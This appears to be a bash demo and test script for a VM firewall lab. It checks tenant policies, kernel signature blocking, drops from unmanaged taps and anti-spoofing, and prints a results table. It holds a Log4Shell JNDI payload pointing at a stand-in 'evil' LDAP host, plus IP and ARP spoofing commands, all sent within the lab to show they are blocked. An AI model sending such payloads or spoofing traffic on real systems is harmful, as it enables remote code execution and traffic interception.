#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# What scripts/demo shows, inside a lab: real TCP between light VMs, the policy between them, and what
# the firewall says about it. Ends with a table; exit 0 only if every line of it is as expected.
set -u

EVE=/var/log/vfw/eve.json
here=$(dirname "$0")
rows=() failed=0

step() { printf '\n== %s\n' "$*"; }

# run WORDS: shows a command, then runs it.
run() {
	printf '   $ %s\n' "$*"
	"$@" 2>&1 | sed 's/^/   /'
	return "${PIPESTATUS[0]}"
}

# row WHAT EXPECTED SEEN: one line of the table.
row() {
	local ok=yes
	[ "$2" = "$3" ] || ok=NO failed=$((failed + 1))
	printf '   -> %s: %s\n' "${1#"${1%%[! ]*}"}" "$3"
	rows+=("$ok|$1|$3$([ $ok = yes ] || echo " (expected $2)")")
}

# address VM: both tenants have the same.
address() {
	case $1 in
	*-web) echo 10.0.0.11 ;;
	*-app) echo 10.0.0.12 ;;
	*-db) echo 10.0.0.13 ;;
	esac
}

# connect FROM TO PORT [SECONDS]: "answered" if it was TO itself that did, "refused" or "silent" for so long.
connect() {
	labvm exec "$1" -- python3 -c '
import socket, sys
to, address, port, seconds = sys.argv[1:]
try:
    with socket.create_connection((address, int(port)), int(seconds)) as s:
        answer = s.makefile().read().strip()
    print("answered" if answer == "hello from " + to else "another answered: " + answer)
except ConnectionRefusedError:
    print("refused")
except OSError:
    print("silent")' "$2" "$(address "$2")" "$3" "${4:-30}"
}

# serve VM PORT: a server that says where it stands.
serve() {
	labvm exec "$1" -- socat "TCP-LISTEN:$2,fork,reuseaddr" "SYSTEM:echo hello from $1" \
		>/dev/null 2>&1 &
	for _ in $(seq 200); do
		[ -z "$(labvm exec "$1" -- ss -Hltn "sport = :$2")" ] || return 0
		sleep 0.1
	done
	echo "no server in $1"
}

# collect VM PORT: a server that writes down what it is sent, as a log does.
collect() {
	labvm exec "$1" -- socat -u "TCP-LISTEN:$2,fork,reuseaddr" "OPEN:/tmp/$1.log,creat,append" >/dev/null 2>&1 &
	for _ in $(seq 200); do
		[ -z "$(labvm exec "$1" -- ss -Hltn "sport = :$2")" ] || return 0
		sleep 0.1
	done
	echo "no server in $1"
}

# request FROM TO TEXT TENTHS: sends it over TCP, two bytes in a segment, then looks for so long whether TO's log has it.
request() {
	labvm exec "$1" -- python3 -c '
import socket, sys, time
to, text = sys.argv[1:]
try:
    with socket.create_connection((to, 8081), 30) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(text), 2):
            s.send(text[i:i + 2].encode())
            time.sleep(0.01)
except OSError:
    pass' "$(address "$2")" "$3"
	for _ in $(seq "$4"); do
		! grep -qF -- "$3" "/tmp/$2.log" 2>/dev/null || {
			echo yes
			return
		}
		sleep 0.1
	done
	echo no
}

mark() { wc -l <"$EVE" 2>/dev/null || echo 0; }

# event MARK FILTER FIELD: the field of the first event since the mark that the jq filter selects.
event() {
	local got=''
	for _ in $(seq 200); do
		got=$(tail -n "+$(($1 + 1))" "$EVE" 2>/dev/null | jq -rn "[inputs | select($2)][0] | $3 // empty" 2>/dev/null)
		[ -z "$got" ] || break
		sleep 0.1
	done
	echo "${got:-no event}"
}

# explain FROM TO PORT: verdict, rule and reason in one word each.
explain() {
	vfwctl explain --from "$1" --to "$2" --proto tcp --dport "$3" -o json |
		jq -r '"\(.verdict) by \(.rule), reason \(.reason)"'
}

mac() { labvm exec "$1" -- cat /sys/class/net/eth0/address; }

# An Ethernet broadcast of an experimental type from a VM's MAC, 60 bytes long.
broadcast_frame() { printf 'ffffffffffff%s88b5%092d' "$(mac "$1" | tr -d :)" 0; }

# arrives TO FROM [SECONDS]: does a broadcast that FROM sends reach TO?
arrives() {
	python3 "$here/deliver.py" "${3:-30}" "$1" sh -c 'labvm inject "$0" "$1" && echo "$1"' "$2" "$(broadcast_frame "$2")" &&
		echo yes || echo no
}

step "Two tenants whose VMs have the same addresses, on two bridges; every VM has its own tap"
for vm in shop-web shop-app shop-db garden-web garden-db; do
	bridge=br0
	[ "${vm%-*}" = shop ] || bridge=br1
	run labvm add $vm --tenant ${vm%-*} --label tier=${vm#*-} --ip "$(address $vm)/24" --bridge $bridge || exit 1
done
serve shop-app 8080
collect shop-app 8081
serve shop-db 5432
serve garden-db 5432

step "Without the firewall: everybody reaches everybody"
row "before: shop-web opens shop-db:5432" answered "$(connect shop-web shop-db 5432)"
attack='GET /?user=${jndi:ldap://evil/'
row "before: an attack is in shop-app's log" yes "$(request shop-web shop-app "${attack}0} " 100)"

step "The policy, and the firewall with it"
sed 's/^/   /' "$here/demo.vfw"
mkdir -p /etc/vfw/signatures
cp "$here/demo.patterns" /etc/vfw/signatures/
run cat /etc/vfw/signatures/demo.patterns
run labvfw start --policy "$here/demo.vfw" || exit 1
run vfwctl vm list

step "A web VM reaches its app VM"
seen=$(connect shop-web shop-app 8080)
row "shop-web opens shop-app:8080" answered "$seen"
row "  vfwctl explain says" "pass by shop:1, reason rule" "$(explain shop-web shop-app 8080)"

step "It does not reach the database, and one reads why"
m=$(mark)
seen=$(connect shop-web shop-db 5432)
row "shop-web opens shop-db:5432" refused "$seen"
drop='.event_type == "drop" and .vfw.src_vm == "shop-web" and .dest_port == 5432'
row "  the event says" "reject by shop:3, reason rule: web must not reach the database" \
	"$(event "$m" "$drop" '"\(.vfw.verdict) by \(.vfw.rule), reason \(.vfw.reason): \(.vfw.message)"')"
row "  vfwctl explain says" "reject by shop:3, reason rule" "$(explain shop-web shop-db 5432)"
run vfwctl explain --from shop-web --to shop-db --proto tcp --dport 5432

step "What it may open is looked into: signatures, matched in the kernel, on their way"
m=$(mark)
row "an ordinary request is in shop-app's log" yes "$(request shop-web shop-app 'GET /?user=alice ' 100)"
row "an attack is, two bytes in a segment" no "$(request shop-web shop-app "${attack}1} " 10)"
row "  the alert says" "blocked, 1000001: Log4Shell: JNDI lookup" \
	"$(event "$m" '.event_type == "alert"' '"\(.alert.action), \(.alert.signature_id): \(.alert.signature)"')"

step "A tap that belongs to no known VM: its first frame is dropped"
m=$(mark)
run labvm add stranger --unmanaged --no-process --ip 10.0.0.66/24 --bridge br0
seen=$(arrives shop-web stranger 3)
row "stranger broadcasts one frame" "drop, reason unmanaged" \
	"$(event "$m" '.in_iface == "vnetstranger"' '"\(.event_type), reason \(.vfw.reason)"')"
row "  it reaches shop-web" no "$seen"
row "  stranger opens shop-app:8080" silent "$(connect stranger shop-app 8080 3)"
row "  such a frame where a rule permits it" yes "$(arrives garden-db garden-web)"

step "A VM that takes another one's address"
m=$(mark)
labvm exec shop-web -- ip addr add 10.0.0.99/24 dev eth0
labvm exec shop-web -- ip neigh replace 10.0.0.12 lladdr "$(mac shop-app)" dev eth0
seen=$(labvm exec shop-web -- ping -c 1 -W 1 -I 10.0.0.99 10.0.0.12 >/dev/null 2>&1 && echo answered || echo silent)
row "shop-web sends as 10.0.0.99" silent "$seen"
row "  the event says" "drop, reason spoof-ip" \
	"$(event "$m" '.src_ip == "10.0.0.99" and .proto == "ICMP"' '"\(.event_type), reason \(.vfw.reason)"')"
labvm exec shop-web -- ip addr del 10.0.0.99/24 dev eth0

step "The other tenant has the same addresses and another policy"
row "garden-web (10.0.0.11) opens garden-db:5432" answered "$(connect garden-web garden-db 5432)"
row "  vfwctl explain says" "pass by garden:1, reason rule" "$(explain garden-web garden-db 5432)"

step "The daemon is killed; the kernel goes on by itself"
run labvfw daemon kill
row "vfwctl vm list" "exit 4, no daemon" "exit $(vfwctl vm list >/dev/null 2>&1; echo $?), no daemon"
row "  shop-web opens shop-app:8080" answered "$(connect shop-web shop-app 8080)"
row "  shop-web opens shop-db:5432" refused "$(connect shop-web shop-db 5432)"
row "  an attack is in shop-app's log" no "$(request shop-web shop-app "${attack}2} " 10)"
row "  an ordinary request is" yes "$(request shop-web shop-app 'GET /?user=bob ' 100)"
row "  stranger opens shop-app:8080" silent "$(connect stranger shop-app 8080 3)"
row "  vfwctl status asks the kernel: mode" armed \
	"$(vfwctl status -o json 2>/dev/null | jq -r '.module.mode')"
run vfwctl status

printf '\n%-4s%-44s%s\n' OK WHAT SEEN
for r in "${rows[@]}"; do
	IFS='|' read -r ok what seen <<<"$r"
	printf '%-4s%-44s%s\n' "$ok" "$what" "$seen"
done
printf '\n%d of %d as expected\n' $((${#rows[@]} - failed)) ${#rows[@]}
exit $((failed > 0))
